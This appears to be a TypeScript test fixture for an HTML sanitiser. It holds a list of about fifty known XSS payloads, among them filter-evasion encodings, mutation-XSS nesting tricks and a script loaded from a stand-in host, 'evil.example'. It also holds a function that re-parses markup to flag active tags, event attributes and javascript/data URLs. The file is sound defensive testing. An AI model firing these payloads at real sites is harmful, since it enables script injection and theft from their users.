// Known XSS payloads (OWASP filter-evasion cheat sheet, mXSS research by Heiderich et al., the
// DOMPurify test suite) and a check that finds anything executable in sanitised markup. Used by the
// sanitiser's tests here and by later checks on every place that renders server HTML.

export const xssPayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/ok.png" onload="alert(1)" ONERROR="alert(2)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="/.//evil.example/">x</a>',
  '<svg onload=alert(1)><circle r=5></circle></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<style><img src=x onerror=alert(1)></style>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p><!--</p><img src=x onerror=alert(1)>--></p>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<span onmouseover=alert(1)>x</span>',
  '<a href="https://ok.example/" onclick="alert(1)" target="_self">x</a>',
  '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];

/** Tags that run code, load documents, or change how the page is parsed or navigated. */
const ACTIVE_TAGS = new Set('script iframe frame object embed applet svg math style base meta link form template noscript'.split(' '));

const isBadUrl = (v: string) => {
  const s = v.replace(/[\u0000-\u0020]/g, '').toLowerCase();
  return /^(javascript|vbscript|data):/.test(s) || /^[/\\]{2}/.test(s);
};

/** Everything in `html` that could run, load a document or leak to another host: [] when safe.
 *  The markup is parsed again, so anything that mutates on re-parse (mXSS) shows up. */
export function findExecutable(html: string): string[] {
  const doc = new DOMParser().parseFromString(html, 'text/html');
  const found: string[] = [];
  for (const el of Array.from(doc.querySelectorAll('*'))) {
    const tag = el.localName;
    if (ACTIVE_TAGS.has(tag)) found.push(`<${tag}>`);
    for (const name of el.getAttributeNames()) {
      const value = el.getAttribute(name) ?? '';
      if (/^on|^style$|^srcdoc$|^srcset$|^formaction$|^xlink:href$|^action$/.test(name)) found.push(`${tag}[${name}]`);
      if ((name === 'href' || name === 'src' || name === 'data') && isBadUrl(value)) found.push(`${tag}[${name}=${value}]`);
    }
  }
  return found;
}
